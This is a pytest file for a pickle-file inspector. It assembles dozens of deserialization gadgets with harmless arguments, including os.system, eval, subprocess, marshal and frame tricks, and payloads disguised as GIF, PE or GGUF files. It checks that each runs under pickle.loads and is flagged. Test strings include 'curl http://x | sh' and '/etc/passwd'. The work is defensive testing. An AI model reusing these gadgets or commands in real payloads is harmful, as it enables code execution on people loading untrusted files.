"""Gadgets that real loaders run: each is shown to act under ``pickle.loads``, and to be caught here.

The payloads are harmless. A subprocess loads each one under an audit hook and says what it saw; only then does it count
that the inspector says ``dangerous`` (or at least ``suspicious``, where only the running program can know).
"""

from __future__ import annotations

import marshal
import pickle
import subprocess
import sys
from pathlib import Path

import pytest
from inspect_samples import args, blob, call, found, look, name, program, stack_name, text, verdict

from watchword.inspect.facts import Verdict

LOADER = """
import pickle, sys, io
armed = False
def hook(event, args):
    # What importing a library does to load itself is no proof of anything.
    if armed and event in WATCHED and "/lib/python" not in str(args):
        print("SAW", event, str(args)[:80], flush=True)
WATCHED = {"os.system", "subprocess.Popen", "exec", "compile", "open", "socket.connect", "socket.gethostbyname",
           "marshal.loads", "import", "pickle.find_class", "glob.glob", "os.mkdir", "object.__setattr__",
           "tempfile.mkdtemp", "os.posix_spawn", "code.__new__", "socket.__new__"}
data = open(sys.argv[1], "rb").read()
stream = io.BytesIO(data)
sys.addaudithook(hook)
armed = True
try:
    for _ in range(int(sys.argv[2])):
        pickle.load(stream)
except BaseException as error:
    print("ENDED", type(error).__name__, str(error)[:200])
armed = False
"""

SYSTEM = name("posix", "system")
TRUE = text("true")


def _getattr(owner: bytes, attribute: str) -> bytes:
    return call(name("builtins", "getattr"), owner, text(attribute))


def _module(module: str) -> bytes:
    return call(name("builtins", "__import__"), text(module))


class _Reduced:
    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, ("true",)


CODE = blob(marshal.dumps(compile("open('/dev/null').close()", "x", "exec")))
NESTED = pickle.dumps(_Reduced())

# name: (bytes, how many pickles, the audit event or output that proves it, the verdict that is due)
GADGETS: dict[str, tuple[bytes, int, str, Verdict]] = {
    **{f"reduce-protocol-{n}": (pickle.dumps(_Reduced(), n), 1, "os.system", Verdict.DANGEROUS) for n in range(6)},
    "inst": (b"(S'true'\niposix\nsystem\n.", 1, "os.system", Verdict.DANGEROUS),
    "obj": (b"(cposix\nsystem\nS'true'\no.", 1, "os.system", Verdict.DANGEROUS),
    "escaped-string": (program(call(SYSTEM, b"S'\\x74rue'\n")), 1, "os.system", Verdict.DANGEROUS),
    "unicode-escape-line": (program(call(SYSTEM, b"V\\u0074rue\n")), 1, "os.system", Verdict.DANGEROUS),
    "os-not-posix": (program(call(name("os", "system"), TRUE)), 1, "os.system", Verdict.DANGEROUS),
    "stack-global": (program(call(stack_name(text("os"), text("system")), TRUE), 4), 1, "os.system", Verdict.DANGEROUS),
    "memoised-names": (
        program(text("os") + b"\x940" + text("system") + b"\x940" + call(b"h\x00h\x01\x93", TRUE), 4),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "memo-shuffled": (
        program(text("os") + b"q\x07" + b"0" + SYSTEM + b"q\x09" + b"0" + b"j\x09\0\0\0" + args(TRUE) + b"R"),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "builtins-eval": (program(call(name("builtins", "eval"), text("1+1"))), 1, "exec", Verdict.DANGEROUS),
    "python2-name": (program(call(name("__builtin__", "eval"), text("1+1"))), 1, "exec", Verdict.DANGEROUS),
    "python2-execfile": (
        program(call(name("__builtin__", "compile"), text("1"), text("x"), text("eval"))),
        1,
        "compile",
        Verdict.DANGEROUS,
    ),
    "getattr-of-import": (program(call(_getattr(_module("posix"), "system"), TRUE)), 1, "os.system", Verdict.DANGEROUS),
    "partial": (
        program(call(call(name("functools", "partial"), SYSTEM, TRUE))),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "partial-by-state": (
        program(
            call(name("functools", "partial"), name("builtins", "print"))
            + b"("
            + SYSTEM
            + args(TRUE)
            + b"}N"
            + b"tb"
            + b")R"
        ),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "attrgetter": (
        program(call(call(call(name("operator", "attrgetter"), text("system")), _module("posix")), TRUE)),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "methodcaller": (
        program(call(call(name("operator", "methodcaller"), text("system"), TRUE), _module("posix"))),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "map": (
        program(call(name("builtins", "list"), call(name("builtins", "map"), SYSTEM, args(TRUE)))),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "through-a-module": (
        program(call(stack_name(text("logging"), text("os.system")), TRUE), 4),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "through-internals": (
        program(call(stack_name(text("collections"), text("OrderedDict.__init__.__class__")), TRUE), 4),
        1,
        "pickle.find_class",
        Verdict.DANGEROUS,
    ),
    "module-as-a-name": (program(name("logging", "os")), 1, "pickle.find_class", Verdict.DANGEROUS),
    "extension-registry": (
        program(
            call(name("copyreg", "add_extension"), text("posix"), text("system"), b"K\x11")
            + b"0\x82\x11"
            + args(TRUE)
            + b"R"
        ),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "computed-name": (
        program(call(stack_name(call(name("operator", "concat"), text("po"), text("six")), text("system")), TRUE), 4),
        1,
        "os.system",
        Verdict.SUSPICIOUS,
    ),
    "subprocess": (program(call(name("subprocess", "Popen"), args(TRUE))), 1, "subprocess.Popen", Verdict.DANGEROUS),
    "importlib": (
        program(call(name("importlib", "import_module"), text("this"))),
        1,
        "The Zen of Python",
        Verdict.DANGEROUS,
    ),
    "runpy": (program(call(name("runpy", "run_module"), text("this"))), 1, "exec", Verdict.DANGEROUS),
    "pickle-loads": (program(call(name("_pickle", "loads"), blob(NESTED))), 1, "os.system", Verdict.DANGEROUS),
    "marshal": (
        program(call(call(name("types", "FunctionType"), call(name("marshal", "loads"), CODE), b"}"))),
        1,
        "marshal.loads",
        Verdict.DANGEROUS,
    ),
    "timeit": (
        program(call(name("timeit", "timeit"), text("1"), text("1"), name("time", "time"), b"K\x01")),
        1,
        "exec",
        Verdict.DANGEROUS,
    ),
    "cprofile": (program(call(name("cProfile", "run"), text("1"))), 1, "exec", Verdict.DANGEROUS),
    "doctest": (program(call(name("doctest", "debug_script"), text("1"), b"\x88}")), 1, "exec", Verdict.DANGEROUS),
    "debugger": (program(call(_getattr(call(name("bdb", "Bdb")), "run"), text("1"))), 1, "exec", Verdict.DANGEROUS),
    "pydoc": (program(call(name("pydoc", "locate"), text("this"))), 1, "The Zen of Python", Verdict.DANGEROUS),
    "open": (program(call(name("io", "open"), text("/dev/null"))), 1, "open", Verdict.DANGEROUS),
    "codecs-open": (program(call(name("codecs", "open"), text("/dev/null"))), 1, "open", Verdict.DANGEROUS),
    "file-handler": (program(call(name("logging", "FileHandler"), text("/dev/null"))), 1, "open", Verdict.DANGEROUS),
    "path-method": (
        program(call(_getattr(call(name("pathlib", "PosixPath"), text("/dev/null")), "read_bytes"))),
        1,
        "open",
        Verdict.DANGEROUS,
    ),
    "glob": (program(call(name("glob", "glob"), text("/nowhere/*"))), 1, "glob.glob", Verdict.DANGEROUS),
    "resolve-host": (
        program(call(name("socket", "gethostbyname"), text("127.0.0.1"))),
        1,
        "socket.gethostbyname",
        Verdict.DANGEROUS,
    ),
    "url": (program(call(name("urllib.request", "urlopen"), text("file:///dev/null"))), 1, "open", Verdict.DANGEROUS),
    "ufunc-rebuild": (
        program(call(call(name("numpy.core", "_ufunc_reconstruct"), text("posix"), text("system")), TRUE)),
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "numpy-loader": (program(call(name("numpy", "load"), text("/dev/null"), b"N\x88")), 1, "open", Verdict.DANGEROUS),
    "numpy-f2py": (
        program(call(name("numpy.f2py.crackfortran", "myeval"), text("1"))),
        1,
        "exec",
        Verdict.DANGEROUS,
    ),
    "joblib-load": (program(call(name("joblib", "load"), text("/dev/null"))), 1, "open", Verdict.DANGEROUS),
    "class-rewritten": (
        program(name("argparse", "Namespace") + b"N}" + text("__init__") + name("builtins", "print") + b"s\x86b"),
        1,
        "pickle.find_class",
        Verdict.SUSPICIOUS,
    ),
    "path-of-imports": (
        program(name("sys", "path") + text("/tmp/x") + b"a"),
        1,
        "pickle.find_class",
        Verdict.DANGEROUS,
    ),
    "second-pickle": (pickle.dumps({"a": 1}) + NESTED, 2, "os.system", Verdict.DANGEROUS),
    "broken-after": (program(call(SYSTEM, TRUE))[:-1] + b"\xff\xff\xff", 1, "os.system", Verdict.DANGEROUS),
    "cut-after": (program(call(SYSTEM, TRUE))[:-1], 1, "os.system", Verdict.DANGEROUS),
    "result-dropped": (program(call(SYSTEM, TRUE) + b"0" + text("a model")), 1, "os.system", Verdict.DANGEROUS),
    "dressed-as-gif": (b"GIF89a\0\0\0" + call(SYSTEM, TRUE) + b".", 1, "os.system", Verdict.DANGEROUS),
    "dressed-as-program": (b"MZ\0" + call(SYSTEM, TRUE) + b".", 1, "os.system", Verdict.DANGEROUS),
    "dressed-as-gguf": (b"GGUF\x03\0\0\0\0" + call(SYSTEM, TRUE) + b".", 1, "os.system", Verdict.DANGEROUS),
    "dressed-as-text": (b"cposix\nsystem\n(S'true'\ntR.\n# just text", 1, "os.system", Verdict.DANGEROUS),
    "frame-cuts-a-name": (
        b"\x80\x04\x95" + (5).to_bytes(8, "little") + b"cxxxx" + b"posix\nsystem\n" + args(TRUE) + b"R.",
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "frame-in-a-frame": (
        b"\x80\x04\x95"
        + (20).to_bytes(8, "little")
        + b"\x95"
        + (60).to_bytes(8, "little")
        + b"N.123456789"
        + call(SYSTEM, TRUE)
        + b"."
        + b"N" * 60,
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
    "long-frame": (
        b"\x80\x04\x95" + len(call(SYSTEM, TRUE)).to_bytes(8, "little") + call(SYSTEM, TRUE) + b".",
        1,
        "os.system",
        Verdict.DANGEROUS,
    ),
}


@pytest.mark.parametrize("gadget", GADGETS)
def test_gadget_acts_under_pickle_and_is_caught(gadget: str, tmp_path: Path) -> None:
    """The real unpickler is seen to act, and the inspector says so. Fails for each name taken out of the tables."""
    data, streams, event, due = GADGETS[gadget]
    sample = tmp_path / "gadget.pkl"
    sample.write_bytes(data)
    ran = subprocess.run(
        [sys.executable, "-c", LOADER, str(sample), str(streams)], capture_output=True, text=True, timeout=60
    )
    assert (event if " " in event else f"SAW {event}") in ran.stdout, ran.stdout + ran.stderr
    judged = verdict(data, "gadget.pkl")
    assert judged in (due, Verdict.DANGEROUS), look(data).findings


def test_torch_inner_bytes_are_followed() -> None:
    """``_load_from_bytes`` unpickles its argument: what is in there is judged as a stream of its own."""
    honest = program(call(name("torch.storage", "_load_from_bytes"), blob(pickle.dumps({"a": 1.0}))))
    evil = program(call(name("torch.storage", "_load_from_bytes"), blob(NESTED)))
    assert verdict(honest) is Verdict.NOTHING_FOUND
    judged = look(evil)
    assert [f.rule for f in judged.findings] == ["pickle-call"]
    assert judged.findings[0].path.startswith("sample:bytes@0x")


@pytest.mark.parametrize("evil", [NESTED, b"cposix\nsystem\n(S'true'\ntR."], ids=["marked", "unmarked"])
@pytest.mark.parametrize(
    ("module", "function", "before"),
    [
        ("torch.storage", "_load_from_bytes", 0),
        ("numba.core.serialize", "_unpickle__CustomPickled", 0),
        ("spacy.vocab", "unpickle_vocab", 4),
        ("spacy.tokens.doc", "unpickle_doc", 1),
    ],
)
def test_bytes_that_a_reducer_of_a_framework_loads_are_followed(
    module: str, function: str, before: int, evil: bytes
) -> None:
    """Reducers of numba 0.68, spaCy 3.8 and PyTorch unpickle one argument: marked as a pickle or not, it is judged.

    Fails when the function, or the place of the bytes among its arguments, is not known.
    """
    data = program(call(name(module, function), *(b"N" for _ in range(before)), blob(evil), b"N"))
    assert [f.rule for f in look(data).findings] == ["pickle-call"]


def test_torch_inner_bytes_written_as_text_are_followed() -> None:
    """Protocol 2 writes bytes as Latin-1 text; that detour hides nothing, however long the text."""
    for padding in ("", "x" * 10_000):
        inner = program(text(padding) + b"0" + call(SYSTEM, TRUE)).decode("latin-1")
        as_bytes = call(name("_codecs", "encode"), text(inner), text("latin1"))
        assert "pickle-call" in found(program(call(name("torch.storage", "_load_from_bytes"), as_bytes)))


def test_evidence_is_readable_source_at_the_right_offset() -> None:
    """A finding shows the call as source, and the offset of the opcode that makes it."""
    data = program(text("padding") + b"0" + call(SYSTEM, text("curl http://x | sh")))
    (finding,) = look(data).findings
    assert finding.evidence == "posix.system('curl http://x | sh')"
    assert finding.message == "loading would call posix.system"
    assert data[finding.offset : finding.offset + 2] == b"R."


def test_unknown_class_with_data_is_nothing_and_with_a_command_is_suspicious() -> None:
    """Unknown names are judged by use: constructing is how models look, commands, URLs and code are not."""
    unknown = name("acme.models", "Classifier")
    assert verdict(program(call(unknown, b"K\x05", text("relu")))) is Verdict.NOTHING_FOUND
    assert verdict(program(unknown + b")\x81}" + text("weights") + b"]sb")) is Verdict.NOTHING_FOUND
    for hint in ("curl http://h/x | sh", "__import__('os').system('id')", "https://h.example/x", "/etc/passwd"):
        assert found(program(call(unknown, text(hint)))) == {"pickle-argument"}
    assert found(program(call(name("acme.tools", "run_it"), text("x")))) == {"pickle-unknown-call"}
